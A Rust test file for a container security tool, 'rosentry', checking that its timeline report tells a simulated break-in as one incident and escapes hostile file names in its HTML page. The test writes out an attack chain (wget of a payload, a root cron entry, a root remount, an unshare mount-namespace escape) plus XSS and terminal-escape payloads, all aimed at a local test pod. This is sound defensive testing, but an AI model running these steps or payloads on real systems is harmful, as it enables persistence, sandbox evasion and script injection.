//! A break-in from its first download to the mount that gets around the seal, as an analyst reads it afterwards: `rosentry
//! timeline` tells it as one incident, and its page shows it in a browser.

use std::{
    fs,
    io::{Read as _, Write as _},
    net::{Ipv4Addr, TcpListener},
    process::{Command, Stdio},
    thread,
};

use serde_json::{Value, json};

use super::support::{
    Lab,
    agent::{Agent, PROGRAM},
    browser,
    pod::{Pod, sealed},
};

/// A download, a program and a schedule are refused; so is a remount. A user namespace gives the capability to mount.
fn break_in(port: u16) -> String {
    format!(
        "wget -q -O /tmp/kit http://127.0.0.1:{port}/kit; cp /bin/busybox /usr/bin/kit; \
         echo '* * * * * root kit' >/etc/cron.d/kit; mount -o remount,rw /; \
         exec unshare -U -r -m sh -c 'mount -t tmpfs scratch /usr/local/bin && cp /bin/busybox /usr/local/bin/kit'"
    )
}

/// Serves one file to whoever asks, as long as the test runs.
fn file_server() -> u16 {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("a port is free");
    let port = listener.local_addr().expect("the listener has an address").port();
    thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let _ = stream.read(&mut [0; 4096]);
            let _ = stream.write_all(b"HTTP/1.0 200 OK\r\nContent-Length: 3\r\n\r\nkit");
        }
    });
    port
}

#[tokio::test]
async fn a_break_in_is_told_as_one_incident_in_its_order() {
    let lab = Lab::start().await;
    let agent = Agent::watching(&lab).await;
    let web = lab.pod("prod", "web").await;

    let app = web.run(sealed(["sh", "-c", &break_in(file_server())])).await;
    assert_eq!(app.exit_code, 0, "{}", app.output);
    shadowed(&agent, &web).await;
    let record = agent.lines().join("\n");
    agent.stop().await;
    let told = serde_json::from_slice::<Value>(&timeline("json", record.clone())).expect("it tells JSON");

    let incidents: Vec<_> =
        told["incidents"].as_array().into_iter().flatten().filter(|it| it["owner"]["name"] == "web").collect();
    assert_eq!(incidents.len(), 1, "{told:#}");
    let incident = incidents[0];
    let texts = |name: &str| -> Vec<_> {
        let steps = incident["steps"].as_array().into_iter().flatten();
        steps.map(|step| step[name].as_str().unwrap_or_default().to_owned()).collect()
    };
    // unshare makes all mounts private, which is one attempt more.
    assert_eq!(
        texts("path"),
        ["/tmp/kit", "/usr/bin/kit", "/etc/cron.d/kit", "/", "/", "/usr/local/bin"],
        "{incident:#}"
    );
    // It gets worse; only that unshare makes mounts private is nothing by itself.
    assert_eq!(texts("severity"), ["low", "high", "high", "high", "info", "critical"], "{incident:#}");
    let story: Vec<_> = incident["story"].as_array().into_iter().flatten().map(|phase| &phase["what"]).collect();
    assert_eq!(story, ["writes_refused", "unseal_failed", "other_mounts", "shadowed"], "{incident:#}");
    assert_eq!(incident["attack"], json!(["T1053.003", "T1105", "T1562"]));
    let places = incident["places"].as_array().map_or(0, Vec::len);
    assert_eq!((places, &incident["places"][0]["container_id"]), (1, &json!(app.id)));
    let shell = &incident["processes"].as_array().into_iter().flatten().find(|it| it["comms"][0] == "sh");
    assert_eq!(shell.map(|shell| &shell["comms"]), Some(&json!(["sh", "unshare", "sh"])), "{incident:#}");

    let page = page(record);
    assert_eq!(browser::rows(&page), (6, 0));
    for expected in ["prod/web", "sh → unshare → sh", "writable mount over the sealed root", "T1053.003"] {
        assert!(page.contains(expected), "{expected} is not in\n{page}");
    }
}

/// Names that an intruder gives to files, so that who looks at the page afterwards runs them.
const HOSTILE: [&str; 4] = [
    "<script>document.title=1<script>",
    "\"><img src=x onerror=document.title=1>",
    "line\nline",
    "\u{1b}[2J\u{202e}gnp",
];

#[tokio::test]
async fn a_break_in_with_hostile_names_is_shown_as_text_and_as_nothing_else() {
    let lab = Lab::start().await;
    let agent = Agent::watching(&lab).await;
    let web = lab.pod("prod", "web").await;

    let written: String = HOSTILE.iter().map(|name| format!("cp /bin/busybox '/tmp/{name}'; ")).collect();
    let app = web.run(sealed(["sh", "-c", &format!("{written}{}", break_in(file_server()))])).await;
    assert_eq!(app.exit_code, 0, "{}", app.output);
    shadowed(&agent, &web).await;
    let record = agent.lines().join("\n");
    agent.stop().await;

    let page = page(record);
    assert_eq!(browser::rows(&page).0, 6 + HOSTILE.len());
    assert!(page.contains("<title>rosentry: incident timeline</title>"), "no script but its own has run");
    assert_eq!(page.matches("<script").count(), 2, "its data and its own");
    assert!(page.contains("/tmp/&lt;script&gt;document.title=1") && !page.contains("<img"), "names are text");
    assert!(page.contains(r"/tmp/line\x0aline") && page.contains(r"/tmp/\x1b[2J"), "what steers is escaped: {page}");
}

/// Waits until the agent tells that the break-in's last step is done.
async fn shadowed(agent: &Agent, web: &Pod) {
    let is_shadow = |event: &Value| event["mount"]["effect"] == "shadow" && event["pod"]["uid"] == web.uid.as_str();
    agent.wait_for("the mount over /usr/local/bin", is_shadow).await;
}

/// The page of a record, as a browser shows it.
fn page(record: String) -> String {
    let folder = tempfile::tempdir().expect("a folder");
    let page = folder.path().join("page.html");
    fs::write(&page, timeline("html", record)).expect("the page is written");
    browser::shown(&page, "")
}

/// What `rosentry timeline` makes of a record.
fn timeline(format: &str, record: String) -> Vec<u8> {
    let mut child = Command::new(PROGRAM)
        .args(["timeline", "--format", format])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("it starts");
    let mut stdin = child.stdin.take().expect("stdin is a pipe");
    let writer = thread::spawn(move || stdin.write_all(record.as_bytes()));
    let output = child.wait_with_output().expect("it ends");
    writer.join().expect("no panic").expect("it reads all");
    assert!(output.status.success(), "{}", output.status);
    output.stdout
}
